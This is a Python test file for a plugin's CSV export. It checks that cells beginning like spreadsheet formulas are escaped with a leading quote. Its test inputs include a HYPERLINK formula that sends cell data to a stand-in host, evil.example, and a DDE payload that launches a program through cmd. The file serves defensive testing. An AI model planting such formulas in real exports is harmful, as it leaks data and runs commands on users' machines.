"""What customers and strangers wrote is never run by the spreadsheet that opens it (threat T9, bad input 58)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from tests.conftest import PROJECT
from tests.lifecycle.test_cli import Run
from tests.lifecycle.test_cli import run as run
from tests.shop import Shop

from lifecycle import csv_output

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'


def written(*values: Any) -> list[str]:
    stream = io.StringIO()
    csv_output.write(stream, [f"column{number}" for number in range(len(values))], [values])
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))[1]


@pytest.mark.parametrize(
    "text",
    [FORMULA, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+33639980001", "--5", "-5e9", "-1.", "-٣"],
)  # fmt: skip
def test_t9_a_text_that_begins_like_a_formula_is_quoted(text: str) -> None:
    assert written(text, "x") == [f"'{text}", "x"]


def test_numbers_stay_numbers_and_other_texts_stay_as_they_are() -> None:
    values = [
        -5,
        -1.5,
        Decimal("-2.50"),
        "-5",
        "-2.5",
        True,
        None,
        "a=b",
        "'=1",
        "Aiko",
        " =1",
        date(2026, 3, 1),
        {"a": 1},
    ]
    assert written(*values) == [
        "-5", "-1.5", "-2.50", "-5", "-2.5", "True", "", "a=b", "'=1", "Aiko", " =1", "2026-03-01", "{'a': 1}"
    ]  # fmt: skip


def test_t9_every_csv_of_the_command_line_is_harmless(shop: Shop, run: Run) -> None:
    shop.customer(FORMULA)
    shop.order(FORMULA, date(2026, 3, 1))
    for command in (
        ["audience", "reactivation/survey", "--as-of", "2026-03-31"],
        ["plan", "reactivation", "--as-of", "2026-03-31"],
        ["replay", "reactivation", "--from", "2026-03-31", "--to", "2026-03-31"],
    ):
        rows = list(csv.reader(io.StringIO(run(*command, "--format", "csv").out)))
        cells = [cell for row in rows for cell in row]
        assert f"'{FORMULA}" in cells
        assert not any(cell.startswith("=") for cell in cells)


def test_nothing_else_of_the_product_writes_csv() -> None:
    """But the made-up shop, whose files are for `lifecycle import` and hold words of ours alone."""
    modules = (PROJECT / "plugins" / "lifecycle").rglob("*.py")
    writers = {path.name for path in modules if re.search(r"csv\.(Dict)?[wW]riter\(", path.read_text(encoding="utf-8"))}
    assert writers == {"csv_output.py", "demo_shop.py"}
